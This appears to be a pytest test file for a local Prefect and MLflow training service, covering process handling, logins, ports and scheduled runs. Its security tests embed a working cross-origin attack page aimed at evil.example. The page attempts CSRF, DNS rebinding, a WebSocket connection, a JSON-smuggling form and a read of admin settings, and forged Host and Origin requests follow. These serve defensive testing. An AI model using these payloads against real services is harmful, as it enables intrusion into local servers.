"""The service: its parts alone, and then on real servers a scheduled watch that trains, logs and
registers.
"""

import io
import json
import os
import queue
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import numpy as np
import processes
import psutil
import pytest
import service as module
import yaml
from PIL import Image
from processes import Process, children, end
from service import (
    LOGIN,
    SUPERVISOR,
    Service,
    check_free,
    deploy,
    keep_login,
    main,
    serve,
    stop,
)

from foretune.errors import BadInput

from .conftest import TINY

DEPLOYMENTS = yaml.safe_load((module.ROOT / "prefect.yaml").read_text())["deployments"]
PATIENCE = 400.0  # seconds; 60 on a quiet machine


def test_a_number_that_was_given_anew_is_not_ours() -> None:
    me = psutil.Process()
    assert Process("x", me.pid, me.create_time()).running == me
    assert Process("x", me.pid, me.create_time() - 100).running is None
    assert Process("x", 2**22 + 1, 0.0).running is None


def test_a_port_that_is_taken_is_named(tmp_path: Path) -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        with pytest.raises(
            BadInput,
            match=rf'port {port} .* mlflow, is not free .* SERVE="--mlflow-port {port + 1}"',
        ):
            check_free("127.0.0.1", port, "mlflow")
        with pytest.raises(BadInput, match="meant for prefect"):
            serve(tmp_path / "s", "127.0.0.1", port, port, 1, Path("prefect.yaml"))
    assert not (tmp_path / "s" / "service.json").exists()


def test_stop_ends_what_carries_the_token_and_nothing_else(tmp_path: Path) -> None:
    service = Service(tmp_path, token="t1")
    sleep = [sys.executable, "-c", "import time; time.sleep(600)"]
    other = subprocess.Popen(sleep, env={**os.environ, module.TOKEN: "t2"})
    orphan = subprocess.Popen(sleep, env={**os.environ, module.TOKEN: "t1"})
    started = subprocess.Popen(
        sleep, env={**os.environ, module.TOKEN: "t1"}, start_new_session=True
    )
    created = psutil.Process(started.pid).create_time()
    service = Service(
        tmp_path, token="t1", processes=(Process("worker-0", started.pid, created),)
    ).save()
    assert Service.load(tmp_path) == service
    try:
        processes.STOP_SECONDS, before = 2.0, processes.STOP_SECONDS
        assert stop(tmp_path) == 2 and stop(tmp_path) == 0
        assert started.poll() is not None and orphan.poll() is not None and other.poll() is None
    finally:
        processes.STOP_SECONDS = before
        end([], [psutil.Process(other.pid)])
        other.wait()


def test_nothing_to_stop_is_said(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for action, said in [
        ("status", "nothing is running; make serve starts it"),
        ("stop", "nothing was running"),
    ]:
        assert module.main([action, "--folder", str(tmp_path)]) == 0
        assert capsys.readouterr().out == f"{said}\n"


def test_a_damaged_file_is_refused(tmp_path: Path) -> None:
    (tmp_path / "service.json").write_text('{"processes": [{"pid": 1}]}')
    with pytest.raises(BadInput, match="is damaged"):
        Service.load(tmp_path)


def test_the_environment_sends_nothing_home_and_stays_on_loopback(tmp_path: Path) -> None:
    found = Service(tmp_path, token="t").environment()
    assert (
        found["PREFECT_API_URL"] == "http://127.0.0.1:4200/api"
        and found["MLFLOW_TRACKING_URI"] == "http://127.0.0.1:5000"
    )
    assert found["DO_NOT_TRACK"] == found["MLFLOW_DISABLE_TELEMETRY"] == "true"
    assert found["PREFECT_SERVER_ANALYTICS_ENABLED"] == "false"


@pytest.fixture
def no_login(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(LOGIN, raising=False)


def test_the_login_is_random_kept_and_for_this_users_eyes(tmp_path: Path, no_login: None) -> None:
    keep_login(tmp_path, "127.0.0.1")
    file = tmp_path / "login"
    login = Service(tmp_path).login
    assert file.stat().st_mode & 0o777 == 0o600
    assert login.startswith("foretune:") and len(login) >= 40
    file.chmod(0o644)
    keep_login(tmp_path, "127.0.0.1")
    assert Service(tmp_path).login == login and file.stat().st_mode & 0o777 == 0o600
    (tmp_path / "other").mkdir()
    keep_login(tmp_path / "other", "localhost")
    assert Service(tmp_path / "other").login != login


def test_a_login_of_the_users_own_is_taken(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(LOGIN, "me:a long password")
    keep_login(tmp_path, "0.0.0.0")
    assert Service(tmp_path).login == "me:a long password"
    assert (tmp_path / "login").stat().st_mode & 0o777 == 0o600
    for bad in ("me", ":a long password", "me:", "me:short", "me:a long\npassword"):
        monkeypatch.setenv(LOGIN, bad)
        with pytest.raises(BadInput, match="must be user:password"):
            keep_login(tmp_path, "127.0.0.1")


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "10.0.0.1", "head.example"])
def test_no_other_machine_reaches_a_server_without_a_login(
    tmp_path: Path, no_login: None, host: str, capsys: pytest.CaptureFixture[str]
) -> None:
    ports = free_ports()
    given = ["serve", "--folder", str(tmp_path), "--host", host]
    # a name that this machine may not have: the ports are looked at first
    if host in ("0.0.0.0", "::"):
        given += ["--prefect-port", str(ports[0]), "--mlflow-port", str(ports[1])]
        assert module.main(given) == 2
        said = capsys.readouterr().err
        assert said.count("\n") == 1 and LOGIN in said and f"--host {host}" in said
    with pytest.raises(BadInput, match=LOGIN):
        keep_login(tmp_path, host)
    assert not (tmp_path / "login").exists() and not (tmp_path / "service.json").exists()


def test_the_login_is_on_no_command_line_and_only_where_it_is_needed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(LOGIN, "me:a long password")
    keep_login(tmp_path, "127.0.0.1")
    service = Service(tmp_path, token="t").save()
    secret = "a long password"
    assert secret not in json.dumps(service.environment())
    assert secret not in (tmp_path / "service.json").read_text()
    command, more = service.mlflow_command()
    assert secret not in json.dumps([command, more])
    assert service.client_environment() == {"PREFECT_API_AUTH_STRING": f"me:{secret}"}
    server = service.server_environment()
    assert server[LOGIN] == f"me:{secret}"
    assert server["PREFECT_SERVER_CSRF_PROTECTION_ENABLED"] == "true"
    assert "*" not in server["PREFECT_SERVER_CORS_ALLOWED_ORIGINS"]


def test_mlflow_has_a_login_too_where_other_machines_reach_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(LOGIN, "me:a long password")
    keep_login(tmp_path, "10.0.0.1")
    service = Service(tmp_path, host="10.0.0.1", names=("head.example",))
    monkeypatch.setattr(module.importlib.util, "find_spec", lambda name: None)
    with pytest.raises(BadInput, match=r"pip install 'mlflow\[auth\]'"):
        service.mlflow_command()
    monkeypatch.setattr(module.importlib.util, "find_spec", lambda name: object())
    command, more = service.mlflow_command()
    assert command[-2:] == ["--app-name", "basic-auth"]
    assert "10.0.0.1:5000,head.example:5000" in command
    assert more["MLFLOW_AUTH_ADMIN_PASSWORD"] == "a long password"
    assert "a long password" not in json.dumps(command)
    assert service.client_environment()["MLFLOW_TRACKING_USERNAME"] == "me"


def test_what_ends_is_started_again_until_somebody_stops_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(module, "SUPERVISE_SECONDS", 0.05)
    said: list[str] = []
    stopped = threading.Event()
    sleep = [sys.executable, "-c", "import time; time.sleep(600)"]
    made: list[subprocess.Popen[bytes]] = []

    def begin() -> Service:
        if len(made) == 3:
            stopped.set()
            return Service(tmp_path, token="t9")
        made.append(subprocess.Popen(sleep, env={**os.environ, module.TOKEN: "t9"}))
        created = psutil.Process(made[-1].pid).create_time()
        service = Service(
            tmp_path, token="t9", processes=(Process("worker-0", made[-1].pid, created),)
        ).save()
        if len(made) < 3:
            made[-1].kill()
            made[-1].wait()
        else:
            stopped.set()
        return service

    module.supervise(tmp_path, begin, said.append, stopped)
    assert len(made) == 3 and made[-1].wait(timeout=10) is not None
    again = "worker-0 ended: starting again"
    assert said == ["watching over it", again, again, "ended 1 processes"]
    assert not (tmp_path / "service.json").exists()


@pytest.mark.parametrize("deployment", DEPLOYMENTS, ids=lambda d: d["name"])
def test_deployments_describe_every_parameter_and_set_only_those_that_fit(
    deployment: dict[str, Any],
) -> None:
    from prefect.flows import load_flow_from_entrypoint
    from prefect.utilities.callables import parameter_schema
    from prefect.utilities.schema_tools import validate

    flow = load_flow_from_entrypoint(str(module.ROOT / deployment["entrypoint"]))
    schema = parameter_schema(flow).model_dump_for_openapi()
    assert flow.name == deployment["name"] and deployment["work_pool"] == {"name": module.POOL}
    assert [k for k, v in schema["properties"].items() if not v.get("description")] == []
    given = {**dict.fromkeys(schema.get("required", []), "x"), **deployment.get("parameters", {})}
    validate(given, schema, raise_on_error=True)
    if "method" in schema["properties"]:
        assert validate({**given, "method": "hyperban"}, schema) and not validate(
            {**given, "method": "hyperband"}, schema
        )
    if "budget" in schema["properties"]:
        assert validate({**given, "budget": 0}, schema)


# -- on real servers
# -------------------------------------------------------------------------------------------------------------------------
def free_ports() -> tuple[int, int]:
    with socket.socket() as a, socket.socket() as b:
        a.bind(("127.0.0.1", 0))
        b.bind(("127.0.0.1", 0))
        return a.getsockname()[1], b.getsockname()[1]


def dropped(folder: Path) -> None:
    """An archive of two classes that can be told apart, and a folder that is no task."""
    rng = np.random.default_rng(0)
    folder.mkdir(parents=True)
    with zipfile.ZipFile(folder / "photos.zip", "w") as archive:
        for k, name in enumerate(("dark", "bright")):
            for i in range(12):
                stream = io.BytesIO()
                pixels = rng.integers(0, 100, (16, 16, 3)) + 120 * k
                Image.fromarray(pixels.astype(np.uint8)).save(stream, format="PNG")
                archive.writestr(f"photos/{name}/{i}.png", stream.getvalue())
    (folder / "bad" / "only").mkdir(parents=True)


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Service, Path]]:
    """A service of its own with the watch deployed on a short schedule, and the folder of its
    data.
    """
    folder = tmp_path_factory.mktemp("service")
    dropped(folder / "inbox")
    (watch,) = [d for d in DEPLOYMENTS if d["name"] == "inbox"]
    given = {
        "inbox": str(folder / "inbox"),
        "data": str(folder / "data"),
        "quiet": 1,
        "budget": 4,
        "method": "random",
        "meta": "none",
    }
    watch = {
        **watch,
        "parameters": {**given, "workers": 1, "settings": TINY},
        "schedules": [{"interval": 15}],
    }
    (folder / "prefect.yaml").write_text(yaml.safe_dump({"name": "test", "deployments": [watch]}))
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("MLFLOW_BACKEND_STORE_URI", f"sqlite:///{folder}/mlflow.db")
        patch.setenv("MLFLOW_ARTIFACTS_DESTINATION", str(folder / "artifacts"))
        for name in ("PREFECT_API_URL", "PREFECT_HOME", LOGIN):
            patch.delenv(name, raising=False)
        try:
            yield (
                serve(folder / ".service", "127.0.0.1", *free_ports(), 1, folder / "prefect.yaml"),
                folder,
            )
        finally:
            stop(folder / ".service")


def wait_for(path: Path, folder: Path) -> str:
    until = time.monotonic() + PATIENCE
    while not path.exists() and time.monotonic() < until:
        time.sleep(0.5)
    log = folder / ".service" / "worker-0.log"
    assert path.exists(), log.read_text()[-5000:] if log.exists() else "no worker"
    return path.read_text(encoding="utf-8")


@pytest.mark.slow
def test_a_scheduled_watch_trains_on_a_worker_and_its_curves_are_in_mlflow(
    running: tuple[Service, Path],
) -> None:
    import mlflow
    import pandas as pd

    from foretune.training.model_file import Model

    service, folder = running
    told = wait_for(folder / "inbox" / "done" / "photos.txt", folder)
    assert "registered model photos" in told
    assert "has 1 class folder" in wait_for(folder / "inbox" / "failed" / "bad.txt", folder)
    curves = pd.read_parquet(folder / "data" / "studies" / "photos" / "curves.parquet")
    client = mlflow.MlflowClient(service.mlflow, registry_uri=service.mlflow)
    experiment = client.get_experiment_by_name("foretune/photos")
    runs = client.search_runs([experiment.experiment_id])
    trials = {
        int(r.data.tags["foretune.trial"]): r.info.run_id
        for r in runs
        if "foretune.trial" in r.data.tags
    }
    assert len(trials) == 2 and len(runs) == 3
    for trial, run in trials.items():
        logged = {m.step: m.value for m in client.get_metric_history(run, "valid_accuracy")}
        rows = curves[curves.config_id == trial]
        assert logged == pytest.approx(
            dict(zip(rows.epoch, rows.valid_accuracy, strict=True))
        ) and set(logged) == {
            1,
            2,
        }
        assert len(client.get_metric_history(run, "valid_accuracy")) == 2
    (version,) = client.search_model_versions("name = 'photos'")
    files = Path(
        client.download_artifacts(version.run_id, version.source.rpartition("/")[2], str(folder))
    )
    (network,) = files.glob("*.pt")
    final = (folder / "data" / "studies" / "photos" / "final.pt").exists()
    assert network.name == ("final.pt" if final else "best.pt")
    assert Model.load(network).classes == ("bright", "dark")
    found = service.api.ask(
        "/flow_runs/filter", {"flow_runs": {"state": {"type": {"any_": ["COMPLETED"]}}}}
    )
    assert any(run["auto_scheduled"] and run["work_pool_name"] == "gpu" for run in found)
    found = service.api.ask(
        "/flow_runs/filter",
        {"flow_runs": {"state": {"name": {"any_": ["AwaitingConcurrencySlot"]}}}},
    )
    assert not found, "a watch that comes due during another is cancelled, not queued up"
    (page,) = service.api.ask(
        "/artifacts/filter", {"artifacts": {"key": {"any_": ["study-photos"]}}}
    )
    assert f"{service.mlflow}/#/experiments/{experiment.experiment_id}/runs" in page["data"]
    assert "report.html" in page["data"] and "(valid)" in page["data"] and page["flow_run_id"]


PAGE = """<!doctype html><script>
const {port, rebound} = Object.fromEntries(new URLSearchParams(location.search));
const target = `http://127.0.0.1:${port}`, told = {}, json = {"Content-Type": "application/json"};
const flow = name => ({method: "POST", body: JSON.stringify({name})});
const tries = {
  simple: () => fetch(`${target}/api/flows/`, {...flow("evil"), mode: "no-cors"}).then(a => a.type),
  json: () => fetch(`${target}/api/flows/`, {...flow("evil"), headers: json}).then(a => a.status),
  read: () => fetch(`${target}/api/admin/settings`).then(a => a.text()),
  rebound: () => fetch(`${rebound}/api/flows/`, {...flow("evil"), mode: "no-cors"}).then(a => a.type),
  socket: () => new Promise((done, failed) => {
    const socket = new WebSocket(`ws://127.0.0.1:${port}/api/events/in`, "prefect");
    socket.onopen = () => done("open"); socket.onerror = () => failed("closed");
  }),
  form: () => new Promise(done => {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "f"; document.body.append(frame, form);
    Object.assign(form, {method: "POST", enctype: "text/plain", target: "f", action: `${target}/api/flows/`});
    form.innerHTML = `<input name='{"name": "evil", "labels": {"' value='": 1}}'>`;
    frame.onload = () => done("sent"); form.submit();
  }),
};
onload = async () => {
  for (const name in tries) told[name] = await tries[name]().catch(e => `refused: ${e}`);
  await fetch("/report", {method: "POST", body: JSON.stringify(told)});
};
</script>"""


class Attacker(BaseHTTPRequestHandler):
    """The page at /, what it reports at /report; and, as a target, a server that lets anybody
    in.
    """

    reports: queue.SimpleQueue[dict[str, Any]]
    posted: list[tuple[str, str | None, bytes]]

    def do_GET(self) -> None:
        self.answer(PAGE.encode(), "text/html")

    def do_OPTIONS(self) -> None:
        self.answer(b"", "text/plain")

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        if self.path == "/report":
            self.reports.put(json.loads(body))
        else:
            self.posted.append((self.path, self.headers["Origin"], body))
        self.answer(b"{}", "application/json")

    def answer(self, content: bytes, kind: str) -> None:
        self.send_response(200)
        for name, value in (
            ("Content-Type", kind),
            ("Content-Length", str(len(content))),
            ("Access-Control-Allow-Origin", "*"),
            ("Access-Control-Allow-Headers", "*"),
        ):
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *given: Any) -> None:
        pass


@pytest.mark.slow
def test_a_page_of_another_origin_is_refused_in_a_real_browser(
    running: tuple[Service, Path], tmp_path: Path
) -> None:
    names = ("chromium", "chromium-browser", "google-chrome")
    browser = next((found for name in names if (found := shutil.which(name))), None)
    if browser is None:
        pytest.skip(f"no browser on this machine ({', '.join(names)})")
    service, _ = running
    Attacker.reports, Attacker.posted = queue.SimpleQueue(), []
    evil = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=evil.serve_forever, daemon=True).start()

    def attack(port: int) -> dict[str, Any]:
        """What the page reports of its tries at a server on this port."""
        page = f"http://evil.example:{evil.server_port}/?port={port}"
        command = [
            browser,
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            f"--user-data-dir={tmp_path / str(port)}",
            "--host-resolver-rules=MAP *.example 127.0.0.1",
            f"{page}&rebound=http://rebound.evil.example:{port}",
        ]
        quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
        process = subprocess.Popen(command, start_new_session=True, **quiet)
        try:
            return Attacker.reports.get(timeout=PATIENCE)
        finally:
            end([*children(process.pid), psutil.Process(process.pid)], [])

    try:
        # the same page at a server that lets anybody in: what it sends arrives
        attack(evil.server_port)
        origin = f"http://evil.example:{evil.server_port}"
        assert len(Attacker.posted) == 4
        assert {(p, o) for p, o, _ in Attacker.posted} == {("/api/flows/", origin)}
        found = attack(service.prefect_port)
    finally:
        evil.shutdown()
        evil.server_close()
    print(json.dumps(found, indent=1))
    assert found["json"].startswith("refused") and found["read"].startswith("refused")
    assert found["socket"].startswith("refused")
    flows = service.api.ask("/flows/filter", {})
    assert "evil" not in [flow["name"] for flow in flows] and flows


@pytest.mark.slow
def test_neither_a_forged_host_nor_the_lack_of_login_or_token_gets_through(
    running: tuple[Service, Path],
) -> None:
    import httpx

    service, _ = running
    user, _, password = service.login.partition(":")
    api, port = service.api.address, service.prefect_port
    login = (user, password)

    def create(auth: tuple[str, str] | None, **headers: str) -> int:
        return httpx.post(
            f"{api}/flows/", json={"name": "evil"}, auth=auth, headers=headers, timeout=60
        ).status_code

    given = httpx.get(f"{api}/csrf-token?client=me", auth=login, timeout=60).json()
    token = {"Prefect-Csrf-Token": given["token"], "Prefect-Csrf-Client": "me"}
    assert create(login, **token, Host=f"rebound.evil.example:{port}") == 403
    assert create(login, **token, Origin="https://evil.example") == 403
    assert create(login) == 403
    assert create(None, **token) == 401
    assert create((user, "wrong"), **token) == 401
    assert "evil" not in [flow["name"] for flow in service.api.ask("/flows/filter", {})]
    # with all of them, it does
    assert create(login, **token, Origin=f"http://localhost:{port}") in (200, 201)
    mlflow = f"{service.mlflow}/api/2.0/mlflow/experiments/create"
    for name, value in (("Host", "evil.example:5000"), ("Origin", "https://evil.example")):
        answer = httpx.post(mlflow, json={"name": "evil"}, headers={name: value}, timeout=60)
        assert answer.status_code == 403


@pytest.mark.slow
def test_everything_listens_on_loopback_alone(running: tuple[Service, Path]) -> None:
    service, _ = running
    listening = [
        (connection.laddr.ip, connection.laddr.port)
        for process in service.own()
        for connection in process.net_connections("inet")
        if connection.status == psutil.CONN_LISTEN
    ]
    assert {service.prefect_port, service.mlflow_port} <= {port for _, port in listening}
    assert {address for address, _ in listening} <= {"127.0.0.1", "::1"}


@pytest.mark.slow
def test_a_watch_that_somebody_asked_for_waits_its_turn_and_a_scheduled_one_is_cancelled(
    running: tuple[Service, Path],
) -> None:
    api = running[0].api
    (watch,) = api.ask("/deployments/filter", {})
    api.ask("/work_pools/gpu", {"is_paused": True}, "PATCH")  # no worker takes part
    while api.runs(module.UNFINISHED):
        time.sleep(1)

    def begin(*tags: str) -> str:
        run = api.ask(f"/deployments/{watch['id']}/create_flow_run", {"tags": list(tags)})["id"]
        api.ask(f"/flow_runs/{run}/set_state", {"state": {"type": "PENDING"}})
        return run

    def state(run: str) -> str:
        return api.ask(f"/flow_runs/{run}", method="GET")["state"]["name"]

    working, asked, scheduled = begin(), begin(), begin("auto-scheduled")
    until = time.monotonic() + PATIENCE
    while state(scheduled) != "Cancelled" and time.monotonic() < until:
        time.sleep(1)
    found = [state(run) for run in (working, asked, scheduled)]
    assert found == ["Pending", "AwaitingConcurrencySlot", "Cancelled"]
    for run in (working, asked):
        api.crash(run)
    api.ask("/work_pools/gpu", {"is_paused": False}, "PATCH")


@pytest.mark.slow
def test_serving_twice_starts_only_what_is_missing(running: tuple[Service, Path]) -> None:
    service, folder = running
    given = (
        folder / ".service",
        service.host,
        service.prefect_port,
        service.mlflow_port,
        1,
        folder / "prefect.yaml",
    )
    kept, gone = service.api.ask("/automations/filter", {})[:2]
    service.api.ask(f"/automations/{gone['id']}", method="DELETE")
    assert serve(*given) == service
    there = {a["name"]: a for a in service.api.ask("/automations/filter", {})}
    # renewed, it would forget a crash that it was about to answer
    assert there[kept["name"]]["updated"] == kept["updated"] and gone["name"] in there
    (worker,) = [p for p in service.processes if p.name == "worker-0"]
    os.kill(worker.pid, signal.SIGKILL)
    psutil.wait_procs([psutil.Process(worker.pid)] if worker.running else [], timeout=10)
    lost = service.api.ask("/deployments/filter", {})[0]["id"]
    lost = service.api.ask(
        f"/deployments/{lost}/create_flow_run", {"state": {"type": "SCHEDULED"}}
    )["id"]
    # and no process has it
    service.api.ask(f"/flow_runs/{lost}/set_state", {"state": {"type": "RUNNING"}, "force": True})
    again = serve(*given)
    assert service.api.ask(f"/flow_runs/{lost}", method="GET")["state"]["type"] == "CRASHED"
    assert again.runs("worker-0") and set(service.processes) - set(again.processes) == {worker}
    assert json.loads((folder / ".service" / "service.json").read_text())["token"] == service.token


@pytest.mark.slow
def test_a_worker_that_ends_is_started_again_by_what_make_serve_leaves_behind(
    running: tuple[Service, Path],
) -> None:
    service, folder = running
    place = ["--folder", str(folder / ".service"), "--deployments", str(folder / "prefect.yaml")]
    ports = ["--prefect-port", str(service.prefect_port), "--mlflow-port", str(service.mlflow_port)]
    given = ["serve", *place, *ports, "--gpus", "1"]
    assert main(given) == 0
    first = Service.load(folder / ".service")
    assert first is not None and first.runs(SUPERVISOR)
    assert main(given) == 0
    assert Service.load(folder / ".service") == first  # one is enough
    (worker,) = [p for p in first.processes if p.name == "worker-0"]
    os.kill(worker.pid, signal.SIGKILL)
    until = time.monotonic() + PATIENCE
    while (now := Service.load(folder / ".service")) is None or worker in now.processes:
        assert time.monotonic() < until, (folder / ".service" / "supervisor.log").read_text()
        time.sleep(0.5)
    assert now.runs("worker-0") and set(first.processes) - set(now.processes) == {worker}


@pytest.mark.slow
def test_stop_ends_everything_and_frees_the_ports(running: tuple[Service, Path]) -> None:
    service, folder = running
    assert stop(folder / ".service") >= 4
    assert service.own() == []
    check_free(service.host, service.prefect_port, "prefect")
    check_free(service.host, service.mlflow_port, "mlflow")
    (folder / "broken.yaml").write_text("deployments: []")
    with pytest.raises(BadInput, match="could not be deployed"):
        deploy(service, folder / "broken.yaml")
